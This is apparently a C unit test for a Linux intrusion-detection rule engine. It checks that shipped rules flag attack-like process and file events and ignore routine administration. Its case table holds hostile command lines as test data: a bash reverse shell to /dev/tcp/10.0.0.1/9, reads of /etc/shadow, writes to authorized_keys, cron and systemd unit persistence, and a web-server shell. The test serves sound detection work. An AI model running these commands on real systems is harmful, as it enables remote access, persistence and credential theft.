// SPDX-License-Identifier: Apache-2.0
/*
 * The shipped rules that look at one event: what each must see, the ways around
 * it that are closed, and what administrators do all day.
 */
#include "front.h"

#include "stream/engine.h"
#include "stream/process_table.h"

/* A process: its program and its arguments, one space between them. */
struct program_case {
	const char *exe;
	const char *cmdline;
};

struct case_of_rule {
	const char *rule;
	struct program_case self;
	struct program_case parent;
	const char *path; /* of a file opened for writing; NULL: an exec */
	bool fires;
};

#define SHELL                            \
	{                                \
		"/usr/bin/bash", "-bash" \
	}

static const struct case_of_rule cases[] = {
	{ "masquerade", { "/home/u/x", "[kworker/u8:1]" }, SHELL, NULL, true },
	{ "masquerade", { "/home/u/x", "[jbd2/sda1-8]" }, SHELL, NULL, true },
	{ "masquerade", { "/home/u/x ", "x" }, SHELL, NULL, true },
	{ "masquerade", { "/usr/bin/[", "[ -f x ]" }, SHELL, NULL, false },
	{ "masquerade", { "/usr/bin/[", "[" }, SHELL, NULL, false },
	{ "exec_from_tmp", { "/tmp/x", "x" }, SHELL, NULL, true },
	{ "exec_from_tmp", { "/run/lock/x", "x" }, SHELL, NULL, true },
	{ "exec_from_tmp",
	  { "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
	    "/lib64/ld-linux-x86-64.so.2 /tmp/x" },
	  SHELL,
	  NULL,
	  true },
	{ "exec_from_tmp",
	  { "/usr/bin/bash", "/bin/bash /tmp/x" },
	  SHELL,
	  NULL,
	  false },
	{ "exec_from_memfd",
	  { "/memfd:runc_cloned:/proc/self/exe", "runc init" },
	  { "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2" },
	  NULL,
	  false },
	{ "exec_from_memfd",
	  { "/memfd:runc_cloned:/proc/self/exe", "runc init" },
	  { "/memfd:runc_cloned:/proc/self/exe", "runc create" },
	  NULL,
	  false },
	{ "exec_from_memfd",
	  { "/memfd:runc_cloned:x", "x" },
	  SHELL,
	  NULL,
	  true },
	{ "web_server_shell",
	  { "/usr/bin/dash", "sh -c id # sendmail" },
	  { "/usr/sbin/php-fpm8.2", "php-fpm: pool www" },
	  NULL,
	  true },
	{ "web_server_shell",
	  { "/usr/bin/dash", "sh -c /usr/sbin/sendmail -t -i" },
	  { "/usr/sbin/php-fpm8.2", "php-fpm: pool www" },
	  NULL,
	  false },
	{ "web_server_shell",
	  { "/usr/bin/bash", "bash -c id" },
	  { "/usr/lib/jvm/java-17/bin/java",
	    "java -Xmx1g org.apache.catalina.startup.Bootstrap start" },
	  NULL,
	  true },
	{ "web_server_shell",
	  { "/usr/bin/dash", "sh -c id" },
	  { "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/gunicorn app" },
	  NULL,
	  true },
	{ "web_server_shell", { "/usr/bin/dash", "sh" }, SHELL, NULL, false },
	{ "credential_file_read",
	  { "/usr/bin/cat", "cat /etc/shadow /usr/sbin/adduser" },
	  SHELL,
	  "/etc/shadow",
	  true },
	{ "credential_file_read",
	  { "/usr/bin/cat", "cat /etc/shadow" },
	  { "/usr/bin/dash", "sh -c cat x /etc/cron.daily/passwd" },
	  "/etc/shadow",
	  true },
	{ "credential_file_read",
	  { "/usr/bin/perl", "/usr/bin/perl /usr/sbin/adduser u" },
	  SHELL,
	  "/etc/shadow",
	  false },
	{ "credential_file_read",
	  { "/usr/bin/sudo", "sudo -i" },
	  SHELL,
	  "/etc/shadow",
	  false },
	{ "process_memory_read",
	  { "/tmp/gdb", "gdb" },
	  SHELL,
	  "/proc/17/mem",
	  true },
	{ "process_memory_read",
	  { "/usr/bin/gdb", "gdb" },
	  SHELL,
	  "/proc/17/mem",
	  false },
	{ "systemd_unit_write",
	  { "/usr/bin/cp", "cp" },
	  SHELL,
	  "/home/u/.config/systemd/user/x.service",
	  true },
	{ "systemd_unit_write",
	  { "/usr/bin/cp", "cp" },
	  SHELL,
	  "/run/systemd/system/x.timer",
	  true },
	{ "systemd_unit_write",
	  { "/usr/bin/cp", "cp" },
	  SHELL,
	  "/home/u/src/x.service",
	  false },
	{ "systemd_unit_write",
	  { "/usr/bin/dpkg", "dpkg -i x" },
	  SHELL,
	  "/usr/lib/systemd/system/x.service",
	  false },
	{ "ssh_key_write",
	  { "/usr/bin/tee", "tee" },
	  SHELL,
	  "/root/.ssh/authorized_keys",
	  true },
	{ "ssh_key_write",
	  { "/usr/bin/ssh", "ssh h" },
	  SHELL,
	  "/root/.ssh/known_hosts",
	  false },
	{ "cron_write",
	  { "/usr/bin/tee", "tee" },
	  SHELL,
	  "/etc/cron.d/x",
	  true },
	{ "cron_write",
	  { "/usr/bin/dpkg", "dpkg" },
	  SHELL,
	  "/etc/cron.d/x",
	  false },
	{ "reverse_shell_cmdline",
	  { "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/9 0>&1" },
	  SHELL,
	  NULL,
	  true },
	{ "reverse_shell_cmdline",
	  { "/usr/bin/bash", "bash -c </dev/tcp/localhost/80" },
	  SHELL,
	  NULL,
	  false },
};

struct world {
	struct arena arena;
	struct process_table *table;
	unsigned matches;
};

static int note(void *ctx, const struct match *match, struct err *err)
{
	struct world *world = ctx;

	(void)match;
	(void)err;
	world->matches++;
	return 0;
}

static struct row *make_row(struct world *world, enum stream_id stream)
{
	unsigned slots = row_slots(catalog_stream(stream));
	struct row *row = arena_alloc(
		&world->arena, sizeof(*row) + slots * sizeof(row->values[0]));

	assert_non_null(row);
	row->stream = (uint16_t)stream;
	row->value_count = (uint16_t)slots;
	row->values[COL_comm] = value_text("x");
	row->values[COL_pid_key] = value_int(2);
	row->values[COL_parent_key] = value_int(1);
	return row;
}

static struct value args_of(struct world *world, const char *cmdline)
{
	size_t len = strlen(cmdline) + 1;
	char *args = arena_alloc(&world->arena, len);

	assert_non_null(args);
	for (size_t i = 0; i + 1 < len; i++)
		args[i] = cmdline[i];
	for (size_t i = 0; i < len; i++)
		if (args[i] == ' ')
			args[i] = '\0';
	return value_bytes(VALUE_LIST, args, len);
}

static struct row *program_row(struct world *world, enum stream_id stream,
			       const struct program_case *program)
{
	unsigned first = stream == STREAM_PROCESS_EXEC ?
				 COL_PROCESS_EXEC_exec_exe :
				 COL_PROCESS_SNAPSHOT_exec_exe;
	bool memfd = strstr(program->exe, "memfd:");
	struct row *row = make_row(world, stream);

	row->values[row_slot(first)] = value_text(program->exe);
	row->values[row_slot(first + 1)] = args_of(world, program->cmdline);
	row->values[row_slot(first + 3)] =
		value_int(memfd ? EVENT_FLAG_EXE_MEMFD : 0);
	return row;
}

static struct row *event_of(struct world *world, const struct case_of_rule *c)
{
	struct row *row;

	row = program_row(world, STREAM_PROCESS_SNAPSHOT, &c->parent);
	row->values[COL_pid_key] = value_int(1);
	row->values[COL_parent_key] = value_int(0);
	process_table_apply(world->table, row);
	row = program_row(world, STREAM_PROCESS_EXEC, &c->self);
	process_table_apply(world->table, row);
	if (!c->path)
		return row;
	row = make_row(world, STREAM_FILE_OPEN);
	row->values[row_slot(COL_FILE_OPEN_path)] = value_text(c->path);
	row->values[row_slot(COL_FILE_OPEN_is_write)] = value_bool(true);
	process_table_apply(world->table, row);
	return row;
}

static void compile_rule(struct front *front, const char *rule)
{
	char path[128], text[16384];
	FILE *file;
	size_t len;

	snprintf(path, sizeof(path), "rules/%s.sql", rule);
	file = fopen(path, "r");
	assert_non_null(file);
	len = fread(text, 1, sizeof(text), file);
	assert_true(len < sizeof(text));
	fclose(file);
	front_compile_bytes(front, text, len);
	front_rule(front);
}

static unsigned matches_of(const struct case_of_rule *c)
{
	const struct process_table_options options = {
		.processes_max = 16,
		.strings_bytes_max = 1 << 20,
	};
	struct world world = { 0 };
	const struct engine_options engine_options = {
		.on_match = note,
		.ctx = &world,
		.state_bytes_max = PLAN_STATE_BYTES_MAX,
	};
	struct engine *engine;
	struct front front;
	struct err err;

	compile_rule(&front, c->rule);
	arena_init(&world.arena, 1 << 20);
	assert_int_equal(process_table_new(&options, &world.table, &err), 0);
	assert_int_equal(
		engine_new(front.program->plan, &engine_options, &engine, &err),
		0);
	assert_int_equal(engine_push(engine, event_of(&world, c), &err), 0);
	engine_free(engine);
	process_table_free(world.table);
	arena_release(&world.arena);
	front_release(&front);
	return world.matches;
}

static void rules__attacks_and_daily_work__are_told_apart(void **state)
{
	unsigned wrong = 0;

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		const struct case_of_rule *c = &cases[i];

		if (matches_of(c) == c->fires)
			continue;
		print_error("%s %s for %s (%s)%s%s\n", c->rule,
			    c->fires ? "is silent" : "fires", c->self.exe,
			    c->self.cmdline, c->path ? " and " : "",
			    c->path ? c->path : "");
		wrong++;
	}
	assert_int_equal(wrong, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(rules__attacks_and_daily_work__are_told_apart),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
